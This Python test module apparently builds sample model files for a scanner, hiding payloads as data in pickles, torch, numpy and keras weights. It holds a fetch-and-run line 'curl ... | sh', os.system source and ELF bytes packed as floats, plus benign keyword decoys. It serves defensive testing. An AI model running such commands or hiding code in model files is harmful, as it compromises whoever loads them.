"""Samples of payloads that pickles, torch's files and arrays carry as values, where nothing looks like a call."""

from __future__ import annotations

import base64
import collections
import io
import pickle
import zipfile

import numpy as np

from tests.samples.hdf5 import hdf5
from tests.samples.keras import archive, dense, sequential
from tests.samples.numpy import saved, wrapped, zipped
from tests.samples.signals import PICKLE, elf
from tests.samples.torch import state_dict, tensor, torch_legacy, torch_zip

_SOURCE = "import os\nos.system('true')\n"


def _floats(payload: bytes) -> np.ndarray:
    """Numbers whose bytes are the payload's."""
    return np.frombuffer(payload + bytes(-len(payload) % 4 + 64), "<f4")


def _tensors(payload: bytes) -> tuple[bytes, bytes]:
    """A state dict of one tensor, and its storage."""
    content = _floats(payload).tobytes()
    count = len(content) // 4
    one = tensor(count=count, size=f"K{chr(count)}\x85", stride="K\x01\x85")
    return state_dict(one), content


def _torch(payload: bytes) -> bytes:
    data, content = _tensors(payload)
    return torch_zip(data, {"0": content})


def _old(payload: bytes) -> bytes:
    data, content = _tensors(payload)
    return torch_legacy(data, {"0": (len(content) // 4, content)})


def _deflated(data: bytes) -> bytes:
    """The same archive, its members deflated."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(zipfile.ZipInfo(name), old.read(name), zipfile.ZIP_DEFLATED)
    return target.getvalue()


_TEXTS = {
    "pickle-in-base64": base64.b64encode(PICKLE).decode(),
    "pickle-in-hex": PICKLE.hex(),
    "pickle-in-base64-in-hex": base64.b64encode(PICKLE).hex(),
    "source": _SOURCE,
    "command": "curl -s https://example.org/x | sh",
    "function-by-name": "__import__('os').system('true')",
}
_VALUES: dict[str, object] = {
    **{f"text-of-{case}": {"weights": [1.5], "note": text} for case, text in _TEXTS.items()},
    "bytes-of-source": {"note": _SOURCE.encode()},
    "bytes-of-a-program": {"blob": elf()},
    "array-of-a-program": {"w": _floats(elf())},
    "a-long-text": {"note": "x y " * 2000 + _TEXTS["pickle-in-base64"]},
}
_WORDS = {f"{word} of several words, number {number}": number for number in range(200) for word in ("import", "system")}
_ORDINARY: dict[str, object] = {
    "vocabulary": {**_WORDS, "https://example.org": 1, "eval(": 2, "os.system(": 3, "exec": 4, "/bin/sh": 5, "#!": 6},
    "settings": {"output_dir": "/home/someone/runs/bert-base-uncased", "optim": "adamw_torch", "hash": "ab" * 32},
    "a-pickle-within": {"scaler": pickle.dumps(collections.OrderedDict(mean=np.zeros(4)), 2)},
    "numbers": {"w": np.random.default_rng(7).standard_normal(4000)},
}
_FILES = {
    "torch-storage": {"model.pt": _torch(elf())},
    "torch-storage-of-a-pickle": {"model.pt": _torch(PICKLE)},
    "torch-storage-deflated": {"model.pt": _deflated(_torch(elf()))},
    "torch-old-storage": {"model.pt": _old(elf())},
    "npy": {"a.npy": saved(_floats(elf()))},
    "npz": {"a.npz": zipped({"a.npy": saved(_floats(_SOURCE.encode()))})},
    "joblib": {"a.joblib": wrapped(_floats(elf()), _floats(elf()).tobytes())},
    "keras-weights": {"model.keras": archive(sequential(dense()), hdf5(numbers=elf() + bytes(64)))},
}

SAMPLES: dict[str, dict[str, bytes]] = {
    **{f"embedded-payload/bad/carried-{case}": {"model.pkl": pickle.dumps(value)} for case, value in _VALUES.items()},
    "embedded-payload/bad/carried-text-of-old": {"model.pkl": pickle.dumps({"note": _SOURCE}, 0)},
    **{f"embedded-payload/bad/carried-by-{case}": files for case, files in _FILES.items()},
    **{
        f"embedded-payload/good/carried-{case}": {"model.pkl": pickle.dumps(value)} for case, value in _ORDINARY.items()
    },
    **{
        f"embedded-payload/good/carried-{case}-of-old": {"model.pkl": pickle.dumps(value, 0)}
        for case, value in _ORDINARY.items()
        if case != "numbers"
    },
    "embedded-payload/good/carried-by-torch": {"model.pt": _torch(bytes(24)), "old.pt": _old(bytes(24))},
}
